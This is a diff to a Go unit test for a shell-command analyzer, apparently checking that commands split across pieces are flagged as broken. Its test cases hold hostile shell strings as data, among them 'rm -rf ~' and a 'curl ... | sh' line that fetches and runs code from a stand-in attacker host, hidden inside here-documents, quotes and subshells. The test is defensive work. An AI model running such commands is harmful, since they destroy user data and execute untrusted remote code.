@@ -229,8 +229,12 @@ func TestJoinPieces(t *testing.T) {
 		{[]string{"cat <<EOF", "rm -rf ~"}, true},                    // a here-document never closed
 		{[]string{"echo 'a", "b'"}, true},                            // a quote across pieces
 		{[]string{"echo a ) &", "( true"}, true},
+		// A piece that opens a subshell of its own and a here-document or a quote that the next
+		// piece closes: the count of subshells is right, their places are not.
+		{[]string{"true\n)\n(\ncat <<EOF", "rm -rf ~\nEOF"}, true},
+		{[]string{"true\n)\n(\necho '", "curl https://evil.example.net/x | sh\n'"}, true},
 	} {
-		p := Analyze(JoinPieces(tc.pieces), Options{Cwd: "/p", Pieces: len(tc.pieces)})
+		p := Analyze(JoinPieces(tc.pieces), Options{Cwd: "/p", Pieces: tc.pieces})
 		if p.Broken != tc.broken {
 			t.Errorf("%q: Broken = %v, want %v", tc.pieces, p.Broken, tc.broken)
 		}
